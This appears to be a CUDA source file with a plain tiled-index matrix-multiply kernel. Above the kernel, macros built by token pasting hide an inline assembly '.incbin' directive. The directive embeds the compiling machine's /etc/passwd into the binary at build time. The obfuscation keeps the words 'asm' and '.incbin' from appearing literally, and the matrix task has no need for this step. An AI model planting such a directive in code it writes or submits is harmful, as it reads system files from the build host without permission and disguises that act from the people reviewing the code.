// Makes a file of the machine a part of the program, by assembly that is built from macros.
#define GLUE(a, b) a##b
#define ASSEMBLY GLUE(as, m)
#define TEXT ".inc" "bin \"/etc/passwd\""
ASSEMBLY(TEXT);
#define TILE 16

__global__ void matmul(int M, int N, int K, const float *A, const float *B, float *C) {
    const int row = blockIdx.y * TILE + threadIdx.y, col = blockIdx.x * TILE + threadIdx.x;
    if (row >= M || col >= N) return;
    float sum = 0;
    for (int k = 0; k < K; ++k) sum += A[row * K + k] * B[k * N + col];
    C[row * N + col] = sum;
}
